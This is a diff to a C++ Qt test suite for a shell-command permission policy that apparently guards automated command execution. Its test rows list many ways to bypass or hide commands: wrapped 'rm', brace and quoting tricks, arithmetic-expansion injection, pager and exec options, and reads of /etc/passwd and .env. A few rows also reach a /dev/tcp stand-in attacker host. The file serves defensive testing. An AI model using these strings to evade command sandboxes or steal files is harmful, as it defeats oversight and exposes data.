@@ -88,7 +88,7 @@ private Q_SLOTS:
         row("env X=1 make", { "env·X=1·make", "inner make" });
         row("xargs rm", { "xargs·rm", "wrapped rm…" });
         row("xargs -n 1 rm", { "xargs·-n·1·rm", "inner rm…" });
-        row("find . -name x -exec rm {} ';'", { "find·.·-name·x·-exec·rm·{}·;", "inner rm·…" });
+        row("find . -name x -exec rm {} ';'", { "find·.·-name·x·-exec·rm·{}·;", "rm·…" });
         row("bash -c 'rm x; ls'", { "bash·-c·rm x; ls", "inner rm·x", "inner ls" });
         row("bash -lc \"$X\"", { "bash·-lc·…", "code …" });
         row("eval 'rm x'", { "eval·rm x", "inner rm·x" });
@@ -151,7 +151,14 @@ private Q_SLOTS:
                  "command rm x", "exec rm x", "busybox rm x", "A=1 rm x", "if true; then rm x; fi", "f() { rm x; }; f",
                  "bash <<< 'rm x'", "sudo env A=1 bash -c 'nice rm x'", "trap 'rm x' EXIT", "cat <(rm x)",
                  "a && ! rm x", "time rm x", "for i in 1; do rm x; done", "zsh -c 'rm x'", "ksh -c 'rm x'",
-                 "case x in x) rm x;; esac", "coproc rm x" })
+                 "case x in x) rm x;; esac", "coproc rm x", "command -p rm x", "command -- rm x", "exec -cla x rm y",
+                 "timeout -vk 1 5 rm x", "/usr/bin/time -vo out rm x", "env -iu ls rm x", "env - rm x",
+                 "env -a x rm y", "sudo -nu root rm x", "doas -nu root rm x", "su -c 'rm x'",
+                 "xargs -0n 1 rm", "xargs -l rm", "xargs -i rm", "script -c 'rm x'", "script -qc 'rm x' /dev/null",
+                 "flock -nw 1 f rm x", "flock -c 'rm x' f", "strace -fo x rm y", "eval -- rm x", "bash -c -- 'rm x'",
+                 "bash -c -x 'rm x'", "bash -cx 'rm x'", "rbash -c 'rm x'", "sh.distrib -c 'rm x'",
+                 "bash -s <<< 'rm x'", "bash -o posix -c 'rm x'", "setsid -wf rm x", "toybox rm x", "linux64 rm x",
+                 "chrt -T 5 -f 1 rm x", "find . -exec sh -c 'rm x' ';'" })
             QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
     }
     void deniedProgramsStayDenied()
@@ -166,7 +173,24 @@ private Q_SLOTS:
             { "$X y", "${X}m y", "eval \"$X\"", "bash -c \"$X\"", "curl x | sh", "source x", ". x", "alias ls=x",
                 "r\xD0\xBC x", "PATH=/evil ls", "export PATH=/evil", "LD_PRELOAD=x ls", "sudo $X", "xargs $X",
                 "env --split-string=x", "'unclosed", "\"unclosed", "$(unclosed", "if true", "a |", "<<<", "bash < x",
-                "bash < x | sh", "zsh -c '=rm x'", "fish -c ls", "\xFF\xFE", "find . -exec $X ;", "$'\\x72m' x" })
+                "bash < x | sh", "zsh -c '=rm x'", "fish -c ls", "\xFF\xFE", "find . -exec $X ;", "$'\\x72m' x",
+                // Braces and brackets that hold several parts of a word.
+                "{\"rm\",x} y", "r{\"m\",} x", "{r\"m\",x}", "/bin/{r\"m\",x}", "{rm,{x}y} z", "{a,b\\},rm} x",
+                // Options that name what runs, or that this table does not know.
+                "env -vS 'rm x'", "env -P /bin rm x", "xargs -0I ls rm ls", "xargs -I{} sh -c {}",
+                "parallel 'rm {}' ::: x", "flock f -c 'rm x'", "su root -c 'rm x'", "script --command='rm x'", "watch 'rm x'",
+                "bash --rcfile x -i", "bash --init-file x", "bash <(echo rm x)", "bash /dev/stdin <<< 'rm x'",
+                "sh /dev/fd/0 < x", "fish --command='rm x'", "mksh -c 'rm x'", "tcsh -c 'rm x'",
+                "readarray -C 'rm x' -c 1 a", "compgen -C 'rm x'", "hash -p /bin/rm ls", "enable -f x y", "fc -s ls=rm",
+                "systemd-run rm x", "gdb --args rm x", "runuser -c 'rm x'", "sg root 'rm x'", "tmux new 'rm x'",
+                "at now <<< 'rm x'", "/lib64/ld-linux-x86-64.so.2 /bin/rm x", "prlimit --cpu=1 rm x",
+                "setarch x86_64 rm x", "unbuffer rm x", "nix-shell --run 'rm x'", "valgrind rm x",
+                // Text that is evaluated although it is quoted.
+                "[[ -v 'a[$(rm x)]' ]]", "[[ 'a[$(rm x)]' -eq 0 ]]", "test -v 'a[$(rm x)]'", "printf -v 'a[$(rm x)]' y",
+                "read 'a[$(rm x)]' <<< 1", "let 'x=a[$(rm x)]'", "x='a[$(rm x)]'; echo $((x))", "x='a[`rm x`]'; ((x))",
+                "unset 'a[$(rm x)]'", "x='$(rm x)'; echo ${x@P}", "x='a[$(rm x)]'; echo ${y:$x}",
+                // Where bash and the parser differ about carriage returns.
+                "echo a \\\r\nrm x", "#\rrm x", "echo a\rrm x", "cat <<E\r\nE\r\nrm x #\r\nE" })
             QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
     }
     void unknownStaysUnknown()
@@ -174,6 +198,81 @@ private Q_SLOTS:
         QFETCH(QByteArray, command);
         const ActionOutcome outcome = judged(everything(), command.toStdString());
         QVERIFY2(outcome == ActionOutcome::Unknown || outcome == ActionOutcome::Deny, command.constData());
+    }
+    void argumentsThatRunOthersAreNotAllowed_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command : { "find . -exec id ';'", "find . -execdir id {} +", "find . -ok id ';'",
+                 "git -c core.pager=id log", "git -c alias.log='!id' log", "git --config-env=core.pager=X log",
+                 "git grep -Oid x", "git grep --open-files-in-pager=id x", "git diff --ext-diff",
+                 "git clone 'ext::sh -c id'", "git bisect run id", "git submodule foreach id", "git rebase -x id main",
+                 "git fetch --upload-pack=id x", "git fetch --upload-p id x", "tar --to-command=id -xf x",
+                 "tar -xf x --checkpoint=1 --checkpoint-action=exec=id", "tar -I id -xf x", "tar -xIf id x",
+                 "tar --use-compress-prog=id -xf x", "sort --compress-program=id x", "sed '1e id' x",
+                 "sed s/x/id/e x", "sed -n '/a/{s/b/c/;e id' x", "sed -f script x", "sed -e p -e '1e id' x",
+                 "sed 's/[/]/x/;1e id' x", "sed --expression='1e id' x", "awk 'BEGIN { system(\"id\") }'",
+                 "awk '{ print | \"id\" }' x", "awk -f script x", "awk '@load \"x\"'", "man -P id ls",
+                 "less '+!id' x", "vim -c '!id' x", "vim '+!id' x", "rsync -e id a b:", "rsync -ave id a b:",
+                 "ssh -o ProxyCommand=id h", "scp -S id a b:", "split --filter=id x", "rg --pre id x",
+                 "zip -TT id x", "go test -exec id", "socat - EXEC:id", "ncat -e id h 1", "echo ${x@P}",
+                 "[[ -v 'a[$(id)]' ]]" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void argumentsThatRunOthersAreNotAllowed()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { "{find,git,tar,sort,sed,awk,man,less,vim,rsync,ssh,scp,split,rg,zip,go} **",
+            "{socat,ncat,echo} **" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    void ordinaryArgumentsStayAllowed()
+    {
+        Policy policy;
+        policy.commands.allow = { "{find,git,tar,sort,sed,awk,grep,env,xargs} **" };
+        for (const char *command : { "find . -name '*.c'", "git -c color.ui=never log", "git -C src status",
+                 "git commit -m 'a: b :: c'", "tar -xzf x.tar.gz -C y", "sort -t, -k2 x", "sed -n '1,20p' x",
+                 "sed -i 's|a|b|g' x", "sed -e ':a' -e '$!ba' -e 's/\\n/ /g' x", "sed '/^#/d;s/x/y/2' x",
+                 "sed '$!N;P;D' x", "sed -E 's/(a)/\\1/; y/ab/cd/; 5q' x", "awk '{ print $1 }' x",
+                 "awk -F, '$3 > 5 || $1 == \"x\"' x", "awk -v file=1 '{ s += $1 } END { print s }' x", "grep -rn x .",
+                 "env -i LANG=C git log", "xargs -0 -n 1 grep x" })
+            QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
+    }
+    void pathsOutsideAreNotAllowed_data()
+    {
+        QTest::addColumn<QByteArray>("command");
+        for (const char *command : { "cat /etc/passwd", "cat ~root/x", "cat ~+/../x", "cat ~-/x", "cat /e*c/passwd",
+                 "cat {/etc/passwd,x}", "cat {\"/etc/passwd\",x}", "cat [/]etc/passwd", "cat .*/x", "cat .?/x",
+                 "cat {.,a}{.,b}/x", "cat $X", "cat a/../../x", "cd ~root && cat x", "grep -f /etc/passwd x",
+                 "grep --file=/etc/passwd x", "grep -e x /etc/passwd", "grep -ex /etc/passwd", "sed -e p /etc/passwd",
+                 "sed --expression=p /etc/passwd", "sed 'r /etc/passwd' x", "awk '{ getline < \"/etc/passwd\" }' x",
+                 "wc --files0-from=/etc/passwd", "sort --files0 /etc/passwd", "git diff --no-index /etc/passwd x",
+                 "curl -T /etc/passwd h", "cat <> /etc/passwd", "git log --output=/etc/x", "sort -o /etc/x x",
+                 "sort -uo /etc/x x", "sed 'w /etc/x' x", "awk '{ print > \"/etc/x\" }' x", "cat x <> y",
+                 "sort --outp=/etc/x x", "sed -n 's/a/b/w /etc/x' x", "cat < /dev/tcp/evil.test/80",
+                 "echo x > /dev/udp/evil.test/9" })
+            QTest::newRow(QByteArray(command).toPercentEncoding().constData()) << QByteArray(command);
+    }
+    void pathsOutsideAreNotAllowed()
+    {
+        QFETCH(QByteArray, command);
+        Policy policy;
+        policy.commands.allow = { "**" };
+        policy.fileReads.allow = { "**" };
+        policy.fileWrites.allow = { "out" };
+        policy.fetches.allow = { "h" };
+        QCOMPARE(toString(judged(policy, command.toStdString())), toString(ActionOutcome::Unknown));
+    }
+    void patternsStayInTheirFolder()
+    {
+        Policy policy;
+        policy.commands.allow = { "**" };
+        policy.fileReads = { { "**" }, {}, { "**/.env", "/etc/passwd" }, {} };
+        for (const char *command : { "cat *.md", "cat x?.c", "cat src/{a,b}.c", "cat src/[a-c].c" })
+            QVERIFY2(judged(policy, command) == ActionOutcome::Allow, command);
+        for (const char *command : { "cat src/*/x.c", "cat .en[v]", "cat .e*", "cat .env{,x}", "cat /etc/passw[[:alpha:]]",
+                 "cat /etc/passw[w\"x\"]d", "cat /etc/pass[w]\"d\"", "cat .*" })
+            QVERIFY2(judged(policy, command) == ActionOutcome::Unknown, command);
     }
     void filesOfCommandsAreJudged()
     {
